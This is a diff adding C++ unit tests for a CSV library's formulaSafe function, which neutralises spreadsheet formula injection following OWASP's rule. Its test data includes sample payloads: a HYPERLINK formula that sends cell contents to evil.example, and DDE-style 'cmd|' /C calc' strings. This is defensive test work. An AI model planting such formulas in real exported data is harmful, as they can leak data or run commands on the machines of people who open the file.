@@ -11,6 +11,7 @@
 
 using klynge::CsvReader;
 using klynge::csvField;
+using klynge::formulaSafe;
 using klynge::InvalidValue;
 
 namespace {
@@ -188,5 +189,61 @@ TEST_CASE("what csvField writes, the reader reads back") {
         const auto got = readAll(text.append("\n"));
         REQUIRE(got.records.size() == 2);
         CHECK(got.records[1] == row);
+    }
+}
+
+TEST_CASE("formulaSafe: a formula trigger at the start of a text is neutralised (OWASP)") {
+    struct Case {
+        std::string text;
+        std::string written;
+    };
+    const std::vector<Case> cases = {
+        // Each trigger of OWASP's rule.
+        {"=HYPERLINK(\"http://evil.example/?\"&A1;\"Klik\")", "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Klik\")"},
+        {"=1+1", "'=1+1"},
+        {"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+        {"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
+        {"\t=1+1", "'\t=1+1"},
+        {"\r=1+1", "'\r=1+1"},
+        {"-", "'-"},
+        {"+", "'+"},
+        {"=", "'="},
+        {"- punktum", "'- punktum"},
+        {"-1+2", "'-1+2"},
+        {"1-2", "1-2"}, // only the first character matters
+        {"+45 12 34 56 78", "'+45 12 34 56 78"},
+        // Plain numbers cannot run anything: kept.
+        {"-12", "-12"},
+        {"+45", "+45"},
+        {"-1234,50", "-1234,50"},
+        {"-0.5", "-0.5"},
+        {"-1,2,3", "'-1,2,3"},
+        {"-,5", "'-,5"},
+        // Everything else is untouched.
+        {"", ""},
+        {"Anne Ærø", "Anne Ærø"},
+        {" =1+1", " =1+1"},
+        {"'=1+1", "'=1+1"},
+        {"a=b", "a=b"},
+        {"e@mail.dk", "e@mail.dk"},
+        {"2026-03-10", "2026-03-10"},
+    };
+    for (const auto& c : cases) {
+        CAPTURE(c.text);
+        CHECK(formulaSafe(c.text) == c.written);
+    }
+}
+
+TEST_CASE("formulaSafe then csvField: the reader reads the neutralised text back, quoted where needed") {
+    const Fields texts = {"=1+1;2", "\t=A1", "+a\nb", "-2+3", "@x \"q\""};
+    std::string text = "a\n";
+    for (const auto& t : texts) text += csvField(formulaSafe(t), ';') + "\n";
+    // The header decides the separator; one column, so ';' must be quoted.
+    const auto got = readAll("a;b\n" + text.substr(2));
+    REQUIRE(got.records.size() == texts.size() + 1);
+    for (std::size_t i = 0; i < texts.size(); ++i) {
+        CAPTURE(texts[i]);
+        CHECK(got.records[i + 1] == Fields{"'" + texts[i]});
     }
 }
